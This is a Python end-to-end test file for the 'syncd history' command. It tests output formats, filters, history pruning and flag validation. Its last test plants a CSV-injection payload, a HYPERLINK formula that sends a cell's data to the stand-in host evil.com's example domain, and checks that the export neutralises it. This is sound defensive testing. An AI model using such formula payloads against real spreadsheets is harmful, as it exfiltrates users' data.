"""`syncd history` and the history's retention as a user meets them: real `syncd` processes against both
emulators over HTTPS, the output parsed the way a script or a spreadsheet would read it."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from sqlalchemy import update

from syncd.store import Store, tables
from tests.e2e.conftest import Result, World
from tests.e2e.test_daemon import Daemon, wait_for

TENANT = "8c0a6f64-0e7d-4b1e-9a55-4d0c8bb6a1f0"
STRANGER = "e2f19e0a-0490-41f4-8509-44a3390ae0b6"
CONFLICT = "TN is already registered with a different Azure Object ID"
DAY = 86_400.0


@dataclass
class People:
    alice: str
    bob: str
    carol: str
    dave: str


def two_syncs(world: World, *, through_the_command: bool = False) -> People:
    """Run 1 onboards alice, bob and carol; run 2 renames alice, gives bob a new number, offboards carol and
    fails to onboard dave (his number is held by another agent). In this process unless the test is about
    what `syncd sync` itself does (`through_the_command`)."""

    def sync() -> tuple[int, dict[str, object]]:
        if not through_the_command:
            result = world.sync_in_process()
            return result.exit_code, result.to_json()
        finished = world.run("sync", "--json")
        return finished.code, finished.json()

    alice = world.add_user("alice", "+1 415 555 0101")
    bob = world.add_user("bob", "+1 415 555 0102")
    carol = world.add_user("carol", "+1 415 555 0103")
    assert sync()[0] == 0
    world.graph.update_user(alice, upn="alice.smith@contoso.com")
    world.graph.update_user(bob, business_phones=["+1 415 555 0199"])
    world.graph.remove_member(world.group, carol)
    world.smartcomm.add_agent(user_object_id=STRANGER, tenant_id=TENANT, phone_number="+14155550104")
    dave = world.add_user("dave", "+1 415 555 0104")
    code, second = sync()
    assert code == 1
    assert second["outcomes"] == {
        "offboard": {"ok": 1},
        "onboard": {"failed": 1},
        "update": {"ok": 2},
    }
    return People(alice, bob, carol, dave)


def history(world: World, *args: str, env: dict[str, str] | None = None) -> list[dict[str, Any]]:
    result = world.run("history", "--format", "json", *args, env=env)
    assert result.code == 0, result.stderr
    rows = json.loads(result.stdout)
    assert isinstance(rows, list)
    return rows


def actions(rows: list[dict[str, Any]]) -> list[tuple[str, str, str]]:
    return [(row["action"], row["outcome"], row["upn"]) for row in rows]


def run_ids(world: World) -> list[int]:
    return sorted({row["run_id"] for row in history(world)})


def database(world: World) -> Path:
    return world.config.parent / "syncd.db"


def backdate(world: World, run_ids: set[int], days: float) -> None:
    """Move these runs and their operations `days` into the past, straight in the SQLite file."""
    when = datetime.fromtimestamp(time.time() - days * DAY, UTC)
    o, r = tables.operations, tables.runs
    with Store(f"sqlite:///{database(world)}") as store, store.engine.begin() as connection:
        connection.execute(update(o).where(o.c.run_id.in_(run_ids)).values(created_at=when))
        connection.execute(update(r).where(r.c.id.in_(run_ids)).values(started_at=when))


def pruned_events(result: Result) -> list[dict[str, Any]]:
    events = [json.loads(line) for line in result.stderr.splitlines() if '"history.pruned"' in line]
    return [event for event in events if event.get("event") == "history.pruned"]


def test_history_formats_agree_newest_first(world: World) -> None:
    people = two_syncs(world)

    rows = history(world)
    # Newest first: the second run's four operations, then the first run's three (within a run the writes
    # go concurrently, so their order there is not fixed).
    assert [row["id"] for row in rows] == sorted((row["id"] for row in rows), reverse=True)
    first_run, second_run = sorted({row["run_id"] for row in rows})
    assert [row["run_id"] for row in rows] == [second_run] * 4 + [first_run] * 3
    assert sorted(actions(rows[:4])) == [
        ("offboard", "ok", "carol@contoso.com"),
        ("onboard", "failed", "dave@contoso.com"),
        ("update", "ok", "alice.smith@contoso.com"),
        ("update", "ok", "bob@contoso.com"),
    ]
    assert sorted(actions(rows[4:])) == [
        ("onboard", "ok", "alice@contoso.com"),
        ("onboard", "ok", "bob@contoso.com"),
        ("onboard", "ok", "carol@contoso.com"),
    ]
    by_key = {(row["action"], row["object_id"]): row for row in rows}
    failure = by_key["onboard", people.dave]
    assert (failure["phone_number"], failure["http_status"], failure["changed"]) == (
        "+14155550104",
        400,
        None,
    )
    assert CONFLICT in failure["error"]
    assert by_key["update", people.bob]["changed"] == {
        "phone_number": {"from": "+14155550102", "to": "+14155550199"}
    }
    assert by_key["update", people.alice]["changed"] == {
        "upn": {"from": "alice@contoso.com", "to": "alice.smith@contoso.com"}
    }
    assert by_key["offboard", people.carol]["phone_number"] == "+14155550103"
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["time"]) for row in rows)

    # CSV: the same rows, as text, with a header.
    result = world.run("history", "--format", "csv")
    assert result.code == 0, result.stderr
    records = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [record["id"] for record in records] == [str(row["id"]) for row in rows]
    assert [record["upn"] for record in records] == [row["upn"] for row in rows]
    csv_failure = next(record for record in records if record["object_id"] == people.dave)
    assert csv_failure["error"] == failure["error"]
    assert csv_failure["http_status"] == "400"
    csv_bob = next(r for r in records if r["object_id"] == people.bob and r["action"] == "update")
    assert csv_bob["changed"] == "phone_number: +14155550102 -> +14155550199"

    # The table: a header, a line per operation, the UTC time first.
    table = world.run("history")
    assert table.code == 0, table.stderr
    header, *lines = table.stdout.splitlines()
    assert re.split(r"\s{2,}", header) == [
        "time (UTC)",
        "action",
        "outcome",
        "object ID",
        "UPN",
        "phone number",
        "changed",
        "HTTP",
        "error",
        "run",
    ]
    assert len(lines) == 7
    [failed_line] = [line for line in lines if people.dave in line]
    assert re.match(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d  onboard   failed  ", failed_line)
    assert CONFLICT in failed_line
    assert " 400 " in failed_line
    limited = world.run("history", "--limit", "2")
    assert len(limited.stdout.splitlines()) == 3
    assert "the newest 2 shown" in limited.stderr
    nothing = world.run("history", "--action", "offboard", "--outcome", "failed")
    assert (nothing.code, nothing.stdout) == (0, "no operations match\n")


FILTERS: list[tuple[list[str], list[tuple[str, str, str]]]] = [
    (
        ["--user", "ALICE.Smith@contoso.com"],
        [("update", "ok", "alice.smith@contoso.com"), ("onboard", "ok", "alice@contoso.com")],
    ),
    (
        ["--user", "+1 415 555 0199"],
        [("update", "ok", "bob@contoso.com"), ("onboard", "ok", "bob@contoso.com")],
    ),
    (["--user", "carol@contoso.com", "--action", "offboard"], [("offboard", "ok", "carol@contoso.com")]),
    (
        ["--action", "update,offboard", "--outcome", "ok", "--user", "bob@contoso.com"],
        [("update", "ok", "bob@contoso.com")],
    ),
    (
        ["--action", "onboard", "--action", "OFFBOARD", "--outcome", "ok", "--since", "1h", "--limit", "1"],
        [("offboard", "ok", "carol@contoso.com")],
    ),
    (["--since", "2000-01-01", "--outcome", "failed"], [("onboard", "failed", "dave@contoso.com")]),
]


def test_history_filters(world: World) -> None:
    people = two_syncs(world)
    for args, expected in FILTERS:
        assert actions(history(world, *args)) == expected, args
    rows = history(world, "--user", people.carol)
    assert [(row["action"], row["object_id"]) for row in rows] == [
        ("offboard", people.carol),
        ("onboard", people.carol),
    ]
    unknown = world.run("history", "--user", "nobody@contoso.com")
    assert unknown.code == 1
    assert unknown.stdout == ""
    assert unknown.stderr.strip().splitlines() == [
        "syncd history: no member matches 'nobody@contoso.com' (give an object ID, a UPN or a phone number)"
    ]
    for flag, value, message in [
        ("--since", "last week", "argument --since: 'last week' is not a duration"),
        (
            "--action",
            "delete",
            "argument --action: unknown action 'delete' (choose from onboard, update, offboard, relink)",
        ),
    ]:
        refused = world.run("history", flag, value)
        assert refused.code == 2, (flag, value)
        assert message in refused.stderr


def test_sync_prunes_the_history_older_than_history_days_once_a_day(world: World) -> None:
    two_syncs(world, through_the_command=True)
    first_run, second_run = run_ids(world)
    with Store(f"sqlite:///{database(world)}") as store:
        pruned_at = store.get_value("history_pruned_at")  # the very first sync pruned (nothing) at its end
        assert pruned_at is not None
        assert abs(time.time() - float(pruned_at)) < 120
        backdate(world, {first_run}, days=3)
        keep_one_day = {"SYNCD_SYNC__HISTORY_DAYS": "1"}

        # Pruned less than a day ago: a sync leaves even old rows alone...
        again = world.run("sync", "--json", env=keep_one_day)
        assert again.code in (0, 1), again.stderr  # 1: dave waits for his retry
        assert pruned_events(again) == []
        assert len(history(world)) == 7

        # ...until the last prune is more than a day old: then a sync prunes at its end (a dry run never).
        store.set_value("history_pruned_at", repr(time.time() - 1.1 * DAY))
        dry = world.run("sync", "--dry-run", env=keep_one_day)
        assert dry.code in (0, 1), dry.stderr
        assert pruned_events(dry) == []
        result = world.run("sync", "--json", env=keep_one_day)
        assert result.code in (0, 1), result.stderr
        [event] = pruned_events(result)
        assert (event["operations"], event["runs"], event["history_days"]) == (3, 1, 1)
        remaining = history(world)
        assert {row["run_id"] for row in remaining} == {second_run}
        assert len(remaining) == 4
        assert float(store.get_value("history_pruned_at") or 0) > time.time() - 120
        runs = world.run("status", "--json").json()["runs"]
        assert isinstance(runs, list)
        assert first_run not in {run["id"] for run in runs}
        assert second_run in {run["id"] for run in runs}
        assert world.run("history", "--since", "2d").stdout.count("\n") == 5  # the header and 4 rows


def test_the_daemon_prunes_at_start(world: World) -> None:
    two_syncs(world)
    first_run, second_run = run_ids(world)
    backdate(world, {first_run}, days=10)
    with Store(f"sqlite:///{database(world)}") as store:
        # The syncs pruned an hour ago (they would wait a day); the daemon prunes at start regardless.
        an_hour_ago = time.time() - 3_600
        store.set_value("history_pruned_at", repr(an_hour_ago))
        daemon = Daemon(world, interval="1h", env={"SYNCD_SYNC__HISTORY_DAYS": "7"})
        try:
            wait_for(
                lambda: float(store.get_value("history_pruned_at") or 0) > an_hour_ago,
                what="the prune at start",
            )
            assert {op.run_id for op in store.operations(limit=100)} == {second_run}
            assert first_run not in {run.id for run in store.runs(limit=100)}
        finally:
            code, stderr = daemon.stop()
    assert code == 0, stderr
    events = [json.loads(line) for line in stderr.splitlines() if '"history.pruned"' in line]
    assert [(event["operations"], event["runs"]) for event in events] == [(3, 1)]


def test_out_of_range_flags_exit_2_naming_the_flag_without_a_traceback(world: World) -> None:
    for flag, value, message in [
        (
            "--since",
            "10000000d",
            "argument --since: '10000000d' reaches back before 1970-01-01: give a duration",
        ),
        (
            "--since",
            "0001-01-01T00:00+01:00",
            "argument --since: '0001-01-01T00:00+01:00' reaches back before",
        ),
        ("--limit", "99999999999999999999", "argument --limit: '99999999999999999999' is above the maximum"),
    ]:
        refused = world.run("history", flag, value)
        assert refused.code == 2, (flag, value, refused.stderr)
        assert message in refused.stderr
        assert "Traceback" not in refused.stderr
        assert refused.stdout == ""


def test_csv_neutralises_a_upn_a_spreadsheet_would_run(world: World) -> None:
    upn = '=HYPERLINK("https://evil.example/?"&A1,"Click")@contoso.com'
    mallory = world.graph.add_user(upn=upn, business_phones=["+1 415 555 0107"])
    world.graph.add_member(world.group, mallory)
    assert world.sync_in_process().exit_code == 0
    result = world.run("history", "--format", "csv")
    assert result.code == 0, result.stderr
    [record] = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert (record["upn"], record["phone_number"]) == ("'" + upn, "+14155550107")
    assert history(world)[0]["upn"] == upn  # the JSON is exact
